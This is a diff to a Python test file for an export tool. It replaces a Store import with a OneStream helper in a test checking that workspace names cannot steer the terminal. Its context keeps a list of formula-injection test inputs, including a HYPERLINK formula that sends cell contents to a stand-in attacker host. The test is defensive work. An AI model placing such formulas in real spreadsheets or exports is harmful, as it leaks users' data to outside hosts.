@@ -12,8 +12,9 @@ from typing import Any, Final
 import pytest
 from backports import zstd
 
-from intercom_async.export.store import Identity, Store
+from intercom_async.export.store import Identity
 from intercom_async.export.tables import convert
+from tests.export.one_stream import OneStream
 
 FORMULAS: Final = [
     '=HYPERLINK("http://evil.example?"&A1,"x")',
@@ -78,7 +79,7 @@ def assert_plain(text: str) -> None:
 
 
 def test_no_name_from_a_workspace_steers_the_terminal(tmp_path: Path) -> None:
-    with Store.open(tmp_path / "ws", Identity(STEERING, "2.10", None, None, True, ())):
+    with OneStream.open(tmp_path / "ws", Identity(STEERING, "2.10", None, None, True, ())):
         pass
     done = command("status", str(tmp_path / "ws"))
     assert done.returncode == 0
